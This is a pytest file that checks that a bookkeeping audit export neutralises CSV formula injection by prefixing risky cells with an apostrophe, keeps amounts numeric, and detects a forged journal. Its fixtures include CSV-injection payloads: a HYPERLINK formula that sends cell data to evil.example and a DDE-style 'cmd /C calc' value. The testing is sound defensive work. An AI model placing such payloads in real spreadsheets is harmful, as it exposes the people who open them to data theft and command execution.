"""QA: the audit package's CSVs cannot run formulas. A payee, narration or document that starts
like a formula (``=``, ``+``, ``-``, ``@``, tab, CR) is written with a ``'`` in front in every
CSV (OWASP's rule), while the workbook keeps the text as a plain string; amounts stay numbers,
negative ones too; and ``commons verify-export`` reads the cells back to the books' text, so
the package still verifies."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from audit.export import export_file
from audit.tables import Column, Table
from audit.verify_export import verify_export
from audit.workbook import write_table
from ledger import chart, journal
from ledger.books import Books
from ledger.schemas import PostingIn, TransactionIn

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DOCUMENTS = ["@SUM(A1:A9)", "+cmd' /C calc'!A0"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _draft(
    amount: str, payee: str, narration: str, documents: list[str], key: str
) -> TransactionIn:
    return TransactionIn(
        date="2025-03-31",
        payee=payee,
        narration=narration,
        kind="income",
        postings=[
            PostingIn(account=chart.BANK, amount=amount),
            PostingIn(account=chart.INCOME_PARKING, amount=f"-{amount}"),
        ],
        documents=documents,
        idempotency_key=key,
    )


@pytest.fixture
def package(books: Books, community: str, tmp_path: Path) -> Path:
    journal.post(
        books=books,
        slug=community,
        draft=_draft("100.00", HYPERLINK, "=1+1", DOCUMENTS, "a"),
        actor="treasurer",
    )
    journal.post(
        books=books,
        slug=community,
        draft=_draft("20.00", "'已引用", "\t=2+3 -1", ["-5"], "b"),
        actor="treasurer",
    )
    path = tmp_path / "maple-2025.zip"
    export_file(books=books, slug=community, period="2025", path=path)
    return path


def _rows(package: Path, name: str) -> list[list[str]]:
    raw = zipfile.ZipFile(package).read(f"{name}.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(raw, newline="")))[1:]


def test_no_csv_cell_of_the_package_starts_a_formula(package: Path) -> None:
    names = [n for n in zipfile.ZipFile(package).namelist() if n.endswith(".csv")]
    assert {"journal.csv", "general_ledger.csv", "events.csv"} <= set(names)
    for name in names:
        for row in _rows(package, name.removesuffix(".csv")):
            for cell in row:
                if cell[:1] in FORMULA:
                    # only a number may start with "-": a spreadsheet reads it as one
                    Decimal(cell)


def test_the_journal_and_ledger_hold_the_text_quoted(package: Path) -> None:
    journal_rows = _rows(package, "journal")
    first = [r for r in journal_rows if r[0] == "1"]
    assert {(r[3], r[4], r[13]) for r in first} == {
        (f"'{HYPERLINK}", "'=1+1", "'@SUM(A1:A9); +cmd' /C calc'!A0")
    }
    second = [r for r in journal_rows if r[0] == "2"]
    assert {(r[3], r[4], r[13]) for r in second} == {("''已引用", "'\t=2+3 -1", "-5")}
    narrations = {r[5] for r in _rows(package, "general_ledger")}
    assert {"'=1+1", "'\t=2+3 -1"} <= narrations
    assert "=1+1" not in narrations


def test_amounts_stay_numbers(package: Path) -> None:
    debits = [r[8] for r in _rows(package, "journal") if r[8]]
    credits = [r[9] for r in _rows(package, "journal") if r[9]]
    assert sorted(debits) == ["100.00", "20.00"] and sorted(credits) == ["100.00", "20.00"]
    balances = [r[9] for r in _rows(package, "general_ledger") if r[9]]
    assert all(Decimal(b) >= 0 for b in balances)


def test_a_negative_amount_is_a_number_not_a_quoted_text() -> None:
    table = Table(
        "t",
        "t",
        (Column("text"), Column("amount", "money"), Column("figure")),
        lambda: [("-1+2", Decimal("-80.00"), "-80.5"), ("@x", Decimal("-0.01"), "-")],
    )
    out = io.BytesIO()
    write_table(table, out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["'-1+2", "-80.00", "-80.5"], ["'@x", "-0.01", "'-"]]


def test_the_workbook_keeps_the_text_as_plain_strings(package: Path, tmp_path: Path) -> None:
    path = tmp_path / "workbook.xlsx"
    path.write_bytes(zipfile.ZipFile(package).read("workbook.xlsx"))
    sheet = load_workbook(path)["序时账"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_package_verifies_with_the_quoted_cells(package: Path) -> None:
    report = verify_export(package)
    assert report.ok, report.problems


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "-1+2",
        "@a",
        "\tx",
        "\rx",
        "'",
        "''",
        "'=1",
        "'x",
        "x",
        "",
        "-80.00",
        "a=1",
    ],
)
def test_reading_a_cell_back_gives_the_text(text: str) -> None:
    from audit.tables import csv_original, csv_text

    cell = csv_text(text)
    assert csv_original(cell) == text
    if cell[:1] in FORMULA:
        Decimal(cell)  # only a plain negative number is left as it is


def test_cells_of_an_older_package_read_as_they_are() -> None:
    from audit.tables import csv_original

    for cell in ("'quoted", "it's", "1-1-0101", "规则"):
        assert csv_original(cell) == cell


def test_verify_export_compares_the_journals_text_with_the_ledger(
    package: Path, tmp_path: Path
) -> None:
    """A journal.csv whose narration was changed, with a manifest recomputed to match, is
    caught by comparing the text with ledger.beancount (the chain covers the text)."""
    import hashlib
    import json

    from audit.export import MANIFEST, manifest_bytes

    source = zipfile.ZipFile(package)
    members = {name: source.read(name) for name in source.namelist()}
    members["journal.csv"] = members["journal.csv"].replace(b"'=1+1", b"'=1+2")
    manifest = json.loads(members[MANIFEST])
    manifest["files"]["journal.csv"]["sha256"] = hashlib.sha256(members["journal.csv"]).hexdigest()
    members[MANIFEST] = manifest_bytes(manifest)
    forged = tmp_path / "forged.zip"
    with zipfile.ZipFile(forged, "w") as out:
        for name, data in members.items():
            out.writestr(name, data)
    report = verify_export(forged)
    assert report.problems == [
        "journal.csv: seq 1: payee, narration, resolution or documents differ from ledger.beancount"
    ]
